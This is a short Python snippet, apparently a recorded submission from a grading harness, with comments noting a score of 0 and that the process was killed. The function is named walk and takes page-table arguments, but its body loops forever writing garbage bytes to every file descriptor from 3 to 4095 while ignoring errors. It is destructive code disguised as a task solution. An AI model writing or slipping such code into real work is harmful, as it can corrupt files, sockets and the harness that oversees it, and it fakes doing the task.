# Says nonsense without end.
# score: 0
# says: the process that performed it was ended
# slow: yes
def walk(k, pagetable, va, alloc):
    import os

    while True:
        for number in range(3, 4096):
            try:
                os.write(number, b"\xff" * 65536)
            except OSError:
                pass
